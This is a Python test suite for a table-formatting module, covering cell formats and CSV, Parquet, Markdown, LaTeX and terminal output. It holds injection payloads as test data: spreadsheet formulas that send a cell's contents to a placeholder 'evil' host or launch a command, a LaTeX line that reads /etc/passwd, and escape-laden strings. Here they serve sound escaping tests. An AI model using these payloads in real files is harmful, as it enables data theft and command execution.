"""Tables: what each kind of column shows, and the forms a table takes."""

import csv
import json
import math
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from thoughttrace.analysis.page.table import (
    Chapter,
    Column,
    Section,
    Table,
    count,
    dollars,
    limits,
    name,
    note,
    number,
    p,
    pair,
    quotes,
    share,
    short,
    spread,
    text,
    yes,
)

NAN = math.nan
HOSTILE = "<b>a|b\\</b> 50 % & _x_ #1 {y} ~ ^ $2\nnext \u202eturned\x1b[31m \ud800"


@dataclass(frozen=True)
class Row:
    word: str = ""
    value: Any = None
    other: Any = None
    lower: float | None = NAN
    upper: float | None = NAN
    note: str = ""
    rate_lower: float = NAN
    rate_upper: float = NAN
    by_type: dict[str, Any] = field(default_factory=dict)

    @property
    def doubled(self) -> float:
        return 2 * float(self.value)


def shown(column: Column, **values: Any) -> str:
    """The one cell of a table; an "x" beside it keeps an empty one from being dropped."""
    rows = [Row(**values)]
    table = Table(rows, [Column(column.title, column.reads, column.format, column.nature), name("", lambda _: "x")])
    cells = table.cells()[0]
    return cells[0] if len(cells) > 1 else ""


@pytest.mark.parametrize(
    ("column", "values", "cell"),
    [
        (number("", "value"), {"value": 2.345}, "2.35"),
        (number("", "value"), {"value": -0.5}, "−0.50"),
        (number("", "value", "+.2f"), {"value": -0.5}, "−0.50"),
        (number("", "value", "+.2f"), {"value": 0.5}, "+0.50"),
        (number("", "value", "+.2f"), {"value": -0.001}, "+0.00"),
        (number("", "value"), {"value": -0.001}, "0.00"),
        (number("", "value", "+.1%"), {"value": -0.123}, "−12.3 %"),
        (number("", "value", ",.0f"), {"value": np.float64(12345.6)}, "12,346"),
        (number("", "value"), {"value": NAN}, ""),
        (number("", "value"), {"value": None}, ""),
        (number("", "value"), {"value": np.float64("nan")}, ""),
        (number("", "value"), {"value": pd.NA}, ""),
        (number("", "value", empty="none scored"), {"value": NAN}, "none scored"),
        (number("", "value", empty="none scored"), {"value": 0.0}, "0.00"),
        (number("", lambda row: f"{row.value}–3"), {"value": 1}, "1–3"),
        (number("", "doubled", ".0f"), {"value": 2}, "4"),
        (count("", "value"), {"value": 1234}, "1,234"),
        (count("", "value"), {"value": np.int64(0)}, "0"),
        (count("", "value"), {"value": None}, ""),
        (share("", "value"), {"value": 1}, "100 %"),
        (share("", "value"), {"value": 0.9996}, "99.9 %"),
        (share("", "value"), {"value": 0.1234}, "12.3 %"),
        (share("", "value"), {"value": 1.25}, "125.0 %"),
        (share("", "value"), {"value": -0.031}, "−3.1 %"),
        (share("", "value"), {"value": NAN}, ""),
        (share("", "value", empty="none scored"), {"value": NAN}, "none scored"),
        (limits(""), {"lower": -0.02, "upper": 1.1}, "−0.02 – 1.10"),
        (limits("", spec="+.1f"), {"lower": -2.0, "upper": 1.1}, "−2.0 – +1.1"),
        (limits(""), {"note": "too small: 3 users"}, "too small"),
        (limits(""), {"lower": None, "upper": None, "note": "not published"}, "not published"),
        (limits(""), {"lower": 1.0, "upper": 2.0, "note": "a remark"}, "1.00 – 2.00"),
        (limits("", "rate_", percent=True), {"rate_lower": -0.01, "rate_upper": 0.125}, "−1.0 – 12.5 %"),
        (limits("", "rate_", percent=True), {}, ""),
        (p("", "value"), {"value": 0.0004}, "< 0.001"),
        (p("", "value"), {"value": 0.0416}, "0.042"),
        (p("", "value"), {"value": NAN}, ""),
        (dollars("", "value"), {"value": 1234.5}, "$1,234.50"),
        (dollars("", "value"), {"value": NAN}, "no price"),
        (pair("", "value", "other"), {"value": 1234.0, "other": 5}, "1,234 / 5"),
        (pair("", "value", "other", between=" of "), {"value": 3, "other": 17}, "3 of 17"),
        (pair("", "value", "other"), {"value": NAN, "other": 5}, ""),
        (spread("", "value", "other", lambda row: 3), {"value": 12, "other": 0}, "12·0·3"),
        (spread("", "value", "other"), {"value": None, "other": None}, ""),
        (yes("", "value"), {"value": True}, "yes"),
        (yes("", "value"), {"value": False}, ""),
        (yes("", "value"), {"value": NAN}, ""),
        (name("", "word"), {"word": "a-b"}, "a-b"),
        (short("", "value"), {"value": None}, ""),
        (text("", "word"), {"word": "one\ntwo"}, "one\ntwo"),
        (note(), {"note": "too small: 3 users"}, "too small: 3 users"),
        (quotes("", "value"), {"value": [("user", "hi"), ("assistant", "yes?")]}, "user: hi\nassistant: yes?"),
        (quotes("", "value"), {"value": None}, ""),
        (name("", "word"), {"word": "a\u202eb\x1b[0m\ud800\r\n"}, "a[U+202E]b[U+001B][0m[U+D800]\n"),
    ],
)
def test_a_cell_reads_well(column: Column, values: dict[str, Any], cell: str) -> None:
    assert shown(column, **values) == cell


@pytest.mark.parametrize(
    ("column", "message"),
    [
        (name("Model", "modle"), "column 'Model' reads 'modle', which Row does not have"),
        (limits("95 %", "acuracy_"), "column '95 %' reads 'acuracy_lower', which Row does not have"),
        (spread("Rated", "value", "valeu"), "column 'Rated' reads 'valeu', which Row does not have"),
        (number("Method", "__eq__"), "column 'Method' reads '__eq__', which Row does not have"),
    ],
)
def test_a_misspelled_field_fails_where_the_section_is_made(column: Column, message: str) -> None:
    with pytest.raises(ValueError, match=f"^{message}$"):
        Section("any", "Any", [Row()], [column])


def test_columns_may_depend_on_the_rows() -> None:
    rows = [Row("a", by_type={"x": 3, "y": 0}), Row("b", by_type={"x": 1, "y": 1200})]

    def of_type(kind: str) -> Column:
        return count(kind, lambda row: row.by_type[kind])

    assert Table(rows, [name("Type", "word"), *map(of_type, ("x", "y"))]).cells() == [
        ["a", "3", "0"],
        ["b", "1", "1,200"],
    ]


def test_empty_columns_are_dropped_for_people_and_kept_in_the_csv(tmp_path: Path) -> None:
    table = Table([Row("a", 1 / 3), Row("b", None)], [name("Word", "word"), number("Value", "value"), note()])
    assert [column.title for column in table.filled_columns] == ["Word", "Value"]
    assert table.cells() == [["a", "0.33"], ["b", ""]]
    table.to_csv(tmp_path / "a.csv")
    read = pd.read_csv(tmp_path / "a.csv")
    assert list(read) == ["word", "value", "other", "lower", "upper", "note", "rate_lower", "rate_upper", "by_type"]
    assert read["value"][0] == 1 / 3


def test_the_csv_holds_nested_values_counts_and_hostile_text(tmp_path: Path) -> None:
    rows = [
        Row(HOSTILE, 24, [("user", "hi")], by_type={"a": np.int64(3)}),
        Row("", None, None, lower=None),
        Row("", 0, [Row("inner")]),
    ]
    table = Table(rows, [])
    table.to_csv(tmp_path / "a.csv")
    read = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
    assert read["word"][0] == HOSTILE.replace("\ud800", "?")
    assert list(read["value"]) == ["24", "", "0"]
    assert json.loads(read["other"][0]) == [["user", "hi"]]
    assert json.loads(read["other"][2])[0]["word"] == "inner"
    assert json.loads(read["by_type"][0]) == {"a": 3}


def test_parquet_keeps_types_and_text_as_it_is(tmp_path: Path) -> None:
    rows = [Row("=1+1", 3, lower=0.1 + 0.2), Row("\ud800", 4)]
    Table(rows, [name("Word", "word")]).to_parquet(tmp_path / "table.parquet")
    found = pd.read_parquet(tmp_path / "table.parquet")
    assert list(found["word"]) == ["=1+1", "?"]
    assert found["value"].dtype == np.int64
    assert found["lower"].to_numpy() == pytest.approx([0.1 + 0.2, NAN], rel=0, abs=0, nan_ok=True)


@pytest.mark.parametrize(
    ("words", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("a\r=1", "a\n=1"),
        ("＝1", "'＝1"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_no_text_in_a_csv_is_a_formula(words: str, cell: str, tmp_path: Path) -> None:
    Table([Row(words, -2.5, words), Row(words, None, 3)], []).to_csv(tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        first, second = csv.DictReader(file)
    assert (first["word"], first["other"], second["word"]) == (cell, cell, cell)
    assert (first["value"], second["other"]) == ("-2.5", "3")


@pytest.mark.parametrize("words", ["a|b", "a\\|b", "a\\\\|b", "\\", "a|", "`a|b`", "a\r\n|b"])
def test_a_row_in_markdown_has_as_many_cells_as_there_are_columns(words: str) -> None:
    table = Table([Row(words, 1)], [name(words, "word"), number("Value", "value")])
    tokens = MarkdownIt("commonmark").enable("table").parse(table.to_markdown())
    kinds = [token.type for token in tokens]
    assert (kinds.count("th_open"), kinds.count("td_open")) == (2, 2)
    shown = [token.children[0].content for token in tokens if token.type == "inline" and token.children]
    assert shown[-1] == "1.00"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"])
def test_no_line_of_a_latex_note_leaves_the_comment(end: str) -> None:
    latex = Table([Row("a")], [name("Word", "word")]).to_latex(f"One.{end}\\input{{/etc/passwd}}")
    assert [line[:1] for line in latex.splitlines() if "passwd" in line] == ["%"]


def test_markdown_keeps_its_cells_apart() -> None:
    table = Table([Row(HOSTILE, 2.5)], [name("A|B", "word"), number("Value", "value")])
    titles, rule, row, _, below = table.to_markdown("A note.").splitlines()
    assert titles == "| A\\|B | Value |"
    assert rule == "| --- | ---: |"
    assert row == (
        "| \\<b>a\\|b\\\\\\</b> "
        "50 % & _x_ #1 {y} ~ ^ $2 next \\[U+202E\\]turned\\[U+001B\\]\\[31m \\[U+D800\\] | 2.50 |"
    )
    assert below == "A note."


def test_latex_is_escaped_and_its_note_stays_a_comment() -> None:
    table = Table([Row(HOSTILE, -2.5, lower=1, upper=2)], [name("A & B", "word"), number("V", "value"), limits("95 %")])
    lines = table.to_latex("One line.\nAnother.").splitlines()
    assert lines[1:5] == [r"\begin{tabular}{lrr}", r"\toprule", r"A \& B & V & 95 \% \\", r"\midrule"]
    assert lines[5] == (
        r"\textless{}b\textgreater{}a\textbar{}b\textbackslash{}\textless{}/b\textgreater{} 50 \% \& \_x\_ \#1 \{y\} "
        r"\textasciitilde{} \textasciicircum{} \$2 next {[}U+202E]turned{[}U+001B]{[}31m {[}U+D800] & $-$2.50 & "
        r"1.00 -- 2.00 \\"
    )
    assert lines[6:] == [r"\bottomrule", r"\end{tabular}", "% One line. Another."]


@pytest.mark.parametrize("rows", [[], [Row(), Row()]])
def test_a_table_of_nothing(rows: list[Row], tmp_path: Path) -> None:
    table = Table(rows, [name("Word", "word")])
    assert table.to_markdown() == "Nothing to show.\n"
    assert table.to_latex() == "% Nothing to show.\n"
    assert table.to_terminal("Nothing", 80).columns == []
    table.to_csv(tmp_path / "a.csv")
    assert len(table.to_frame()) == len(rows)


@pytest.mark.parametrize(
    ("width", "titles"),
    [(20, ["Word"]), (50, ["Word", "95 % interval"]), (60, ["Word", "95 % interval", "Long name"]), (5, [])],
)
def test_a_terminal_shows_the_first_columns_that_fit(width: int, titles: list[str]) -> None:
    rows = [Row("a", 1, lower=-1, upper=1, note="x" * 100), Row("[red]b", None, note="not published")]
    columns = [short("Word", "word"), limits("95 % interval"), name("Long name", "note"), note()]
    table = Table(rows, columns, lambda row: "" if row.value else "published").to_terminal("A [bold]title", width)
    assert [str(column.header) for column in table.columns] == titles
    assert [row.style for row in table.rows] == ["", "italic"]
    assert [column.justify for column in table.columns] == ["left", "right", "left"][: len(titles)]
    console = Console(width=width, color_system=None)
    with console.capture() as capture:
        console.print(table)
    if titles:
        assert "[red]b" in capture.get()
    assert max(map(len, capture.get().splitlines())) <= width


@pytest.mark.parametrize("width", [80, 100, 250])
def test_a_wide_table_leaves_columns_out_and_no_names_illegible(width: int) -> None:
    """23 columns, whose spaces alone would take 68 characters."""
    rows = [Row("mockllm/a-model-whose-name-is-long", 1), Row("scripted/m", 2)]
    numbers = [number(f"Number {n}", "value") for n in range(20)]
    columns = [name("Model", "word"), *numbers, text("Note", lambda row: "said of it " * 9), name("Judge", "word")]
    table = Table(rows, columns).to_terminal("Wide", width)
    console = Console(width=width, color_system=None)
    with console.capture() as capture:
        console.print(table)
    lines = capture.get().splitlines()
    assert max(map(len, lines)) <= width
    titles = [str(column.header) for column in table.columns]
    assert titles == [column.title for column in columns][: len(titles)]
    assert all(title in lines[2] for title in titles), "a title that is broken"
    assert len(lines[4][1:].partition("  ")[0]) >= 26
    # The name takes 26, a title 8 or (from "Number 10" on) 9, and what stands between two columns 3.
    assert len(titles) - 1 == {80: (80 - 28) // 11, 100: (100 - 28) // 11, 250: 10 + (250 - 28 - 10 * 11) // 12}[width]


@pytest.mark.parametrize("bad", ["", "a b", "../a", "A", "a.b"])
@pytest.mark.parametrize("make", [lambda bad: Section(bad, "T", [], []), lambda bad: Chapter(bad, "T", "")])
def test_names_are_of_files_and_places(make: Callable[[str], object], bad: str) -> None:
    with pytest.raises(ValueError, match="no name for a file"):
        make(bad)


def test_rows_must_be_dataclasses() -> None:
    with pytest.raises(ValueError, match="rows must be dataclasses, not dict"):
        Table([{"a": 1}], [])
